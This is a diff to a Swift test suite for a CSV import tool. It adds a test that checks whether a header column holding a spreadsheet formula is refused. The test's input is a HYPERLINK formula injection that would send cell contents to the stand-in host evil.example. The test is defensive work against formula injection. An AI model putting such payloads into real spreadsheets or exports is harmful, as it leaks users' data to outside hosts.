@@ -33,6 +33,14 @@ import GSPTestSupport
         #expect(plan.records.count == 1, "\(plan.problems)")
     }
 
+    /// A column of a gsp export becomes a field name on every replica: a formula is refused.
+    @Test func anExportColumnThatIsNotAFieldNameIsRefused() throws {
+        let csv = "gsp_table,gsp_id,title,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\"\r\n"
+            + "deals,\(RowID().lowercased),Fleet,x\r\n"
+        let error = try #require(throws: ImportError.self) { try NativeCSV.plan(try CSVTable(data: Data(csv.utf8), file: "export.csv")) }
+        #expect(error.description.hasPrefix("export.csv:1: column '=HYPERLINK(") && error.description.contains("is not a field name"), "\(error.description)")
+    }
+
     @Test func aMappingMissingAKeySaysWhatTheKeyIsFor() throws {
         let dir = TemporaryDirectory()
         let url = try dir.write(Self.mapping.replacingOccurrences(of: "\"id\": \"Id\", ", with: ""), to: "m.json")
